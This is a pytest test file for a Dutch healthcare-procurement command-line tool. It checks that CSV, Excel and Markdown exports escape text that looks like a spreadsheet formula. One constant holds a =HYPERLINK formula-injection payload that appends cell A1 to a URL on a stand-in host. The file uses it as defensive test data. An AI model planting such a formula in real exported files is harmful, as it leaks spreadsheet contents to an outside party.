"""CSV and Markdown output: formula-looking text is neutralised; --format excel is Dutch Excel's."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import TODAY, Runner
from zinkoop_cli.render.flat import csv_text, neutral

EVIL = '=HYPERLINK("http://x.example/?"&A1,"klik")'


@pytest.mark.parametrize(("value", "cell"), [
    (EVIL, "'" + EVIL), ("+31 20 123", "'+31 20 123"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    # A tab becomes a space and a carriage return a visible symbol (core.text.visible):
    # neither can start a formula then.
    ("\tx", " x"), ("\rx", "\u240dx"), ("Kliniek = goed", "Kliniek = goed"), (None, ""),
    (-2, "-2"), (0, "0"), (2027, "2027"),
])
def test_text_that_would_run_as_a_formula_is_neutralised_numbers_are_not(
        value: object, cell: str) -> None:
    assert neutral(value) == cell


def test_markdown_neutralises_with_a_backslash_that_markdown_hides() -> None:
    assert neutral("=1+1", "\\") == "\\=1+1"


def test_excel_csv_is_semicolons_and_crlf() -> None:
    text = csv_text(("a", "b"), [["x;y", -2]], excel=True)
    assert text == 'a;b\r\n"x;y";-2\r\n'


def tracked_evil(run: Runner) -> None:
    assert run("track", "add", "msz", "2027", "--provider", EVIL, "--on",
               "ontvangst=2026-09-15").code == 0


def test_track_list_csv_keeps_a_formula_provider_as_text(run: Runner) -> None:
    tracked_evil(run)
    result = run("track", "list", "--format", "csv", "--today", TODAY)
    [_, row] = list(csv.reader(io.StringIO(result.out)))
    assert row[1] == "'" + EVIL
    assert row[9] == "-2"  # days_left stays a number: overdue by two days


def test_track_list_excel_is_what_dutch_excel_opens(run: Runner) -> None:
    tracked_evil(run)
    result = run("track", "list", "--format", "excel", "--today", TODAY)
    assert result.code == 0, result.err
    assert result.out.startswith("\ufeffcontract;provider;agb;")
    [_, row] = list(csv.reader(io.StringIO(result.out.lstrip("\ufeff")), delimiter=";"))
    assert (row[1], row[9]) == ("'" + EVIL, "-2")


def test_deadlines_excel_and_markdown(run: Runner) -> None:
    plain = run("deadlines", "msz", "2027", "--format", "csv", "--today", TODAY).out
    excel = run("deadlines", "msz", "2027", "--format", "excel", "--today", TODAY).out
    assert excel.startswith("\ufeffid;calendar;date;")
    assert list(csv.reader(io.StringIO(excel.lstrip("\ufeff")), delimiter=";")) == list(
        csv.reader(io.StringIO(plain)))
    markdown = run("deadlines", "msz", "2027", "--format", "markdown", "--today", TODAY).out
    assert "| -58 |" in markdown  # days_left, a number, is not escaped


def test_the_importer_reads_what_excel_writes(run: Runner, tmp_path: Path) -> None:
    path = tmp_path / "contracten.csv"
    path.write_bytes("\ufeffprovider;agb;care_type;year;ontvangst\r\n"
                     "Kliniek; Oost;;msz;2027;14-9-2026\r\n".replace(
                         "Kliniek; Oost", '"Kliniek; Oost"').encode("utf-8"))
    assert run("track", "import", str(path)).code == 0
    [contract] = json.loads(run("track", "list", "--format", "json").out)["contracts"]
    assert (contract["provider"], contract["events"]) == ("Kliniek; Oost",
                                                          {"ontvangst": "2026-09-14"})


def test_a_calendar_activity_that_looks_like_a_formula_stays_text(run: Runner,
                                                                  tmp_path: Path) -> None:
    shipped = Path(__file__).parents[1] / "src/zinkoop_cli/calendars/zorg-en-zekerheid"
    folder = tmp_path / "eigen" / "zorg-en-zekerheid"
    folder.mkdir(parents=True)
    (folder / "msz-2027.toml").write_text((shipped / "msz-2027.toml").read_text(
        encoding="utf-8").replace('activity = "Publicatie', 'activity = "=Publicatie', 1),
        encoding="utf-8")
    args = ("deadlines", "msz", "2027", "--today", TODAY, "--calendars", str(tmp_path / "eigen"))
    rows = list(csv.reader(io.StringIO(run(*args, "--format", "csv").out)))
    assert [row[6] for row in rows if row[0] == "publicatie-zorginkoopbeleid"] == [
        "'=Publicatie zorginkoopbeleid op: www.zorgenzekerheid.nl"]
    assert "| \\=Publicatie zorginkoopbeleid" in run(*args, "--format", "markdown").out
